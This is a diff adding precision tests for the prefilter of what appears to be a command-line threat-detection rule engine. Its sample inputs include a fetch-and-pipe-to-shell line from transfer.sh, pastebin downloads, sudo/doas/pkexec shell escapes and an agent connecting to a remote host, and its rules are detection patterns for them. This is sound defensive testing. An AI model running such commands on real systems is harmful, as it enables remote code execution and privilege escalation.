@@ -13,7 +13,7 @@ import { builtinRulesDir } from '../core';
 import { loadRules } from './schema';
 import { importSigmaDir } from './sigma';
 import { testEventDoc } from './testing';
-import type { RuleDef } from './types';
+import type { Condition, RuleDef } from './types';
 
 const shared = path.resolve(__dirname, '..', '..', 'shared', 'corpora');
 
@@ -205,6 +205,38 @@ describe('the prefilter on hostile input (issue 14)', () => {
     } finally {
       lower.mockRestore();
     }
+  });
+});
+
+describe('the prefilter\'s precision', () => {
+  const rule = (id: string, condition: Condition): RuleDef => ({
+    id, name: id, description: id, type: 'match', severity: 'low', risk_score: 21, enabled: true, version: 1, threat: [], references: [], false_positives: [],
+    author: ['test'], tags: [], exceptions: [], tests: { match: [], no_match: [] }, condition,
+  });
+  const candidateIds = (rules: readonly RuleDef[], line: string): string[] => {
+    const pf = new Prefilter(rules.map((r) => compileRule(r).requirements));
+    return pf.candidates(new EvalContext().reset(commandEvent(line))).map((i) => (rules[i] as RuleDef).id);
+  };
+
+  it('makes an `any` rule a candidate only where every clause of one of its branches holds, not the cheapest clause of each', () => {
+    const r = rule('paste', { any: [{ cmd: { name: ['curl'], args_any: { contains: 'pastebin.com' } } }, { cmd: { name: ['wget'], args_any: { contains: 'transfer.sh' } } }] });
+    expect(candidateIds([r], 'curl -s https://api.example.com/health')).toEqual([]);
+    expect(candidateIds([r], 'wget https://pastebin.com/raw/x')).toEqual([]);
+    expect(candidateIds([r], 'curl https://pastebin.com/raw/x')).toEqual(['paste']);
+    expect(candidateIds([r], 'wget -O- https://transfer.sh/x | sh')).toEqual(['paste']);
+  });
+
+  it('requires a privileged wrapper (sudo, doas, pkexec, su, runuser) for a `sudo: true` test', () => {
+    const r = rule('sudo-sh', { cmd: { sudo: true, words_any: { regex: '(^|/)sh$' } } });
+    expect(candidateIds([r], 'ssh deploy@10.0.2.15 ./deploy.sh')).toEqual([]);
+    for (const line of ['sudo vim -c "!/bin/sh"', 'doas less /bin/sh', "su -c 'awk x /bin/sh'", 'pkexec env /bin/sh']) expect(candidateIds([r], line)).toEqual(['sudo-sh']);
+  });
+
+  it('requires a long option\'s name even when the rule tests its value', () => {
+    const r = rule('connect', { cmd: { option: { names: ['-connect', '--connect'], value: { regex: '^[\\w.-]+:\\d+$' } } } });
+    expect(candidateIds([r], 'scp build.tgz deploy@10.0.2.15:/opt/')).toEqual([]);
+    expect(candidateIds([r], './agent -connect 10.10.14.7:11601')).toEqual(['connect']);
+    expect(candidateIds([r], './agent --connect=10.10.14.7:11601')).toEqual(['connect']);
   });
 });
 
